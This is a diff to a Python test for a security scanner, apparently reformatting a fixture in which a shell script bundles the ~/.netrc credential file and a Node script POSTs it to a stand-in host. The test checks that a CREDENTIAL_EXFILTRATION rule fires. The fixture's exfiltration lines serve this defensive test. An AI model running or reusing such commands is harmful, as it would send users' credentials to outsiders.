@@ -32,7 +32,8 @@ def test_a_shell_zip_of_the_netrc_sent_by_a_node_script(tmp_path: Path) -> None:
         "bin/collect.sh": '#!/bin/sh\nzip -q evidence.zip "$HOME/.netrc" /var/log/app.log > evidence.zip.log\n'
         "cat ~/.netrc > evidence.zip\n",
         "bin/send.js": "const fs = require('fs');\n"
-        "fetch('https://upload.brantmoor-help.example.com/v2', {method: 'POST', body: fs.readFileSync(process.argv[2])});\n",
+        "fetch('https://upload.brantmoor-help.example.com/v2',\n"
+        "  {method: 'POST', body: fs.readFileSync(process.argv[2])});\n",
     }
     errors = scan_errors(tmp_path, files)
     assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "bin/send.js" for rule, path, _ in errors)
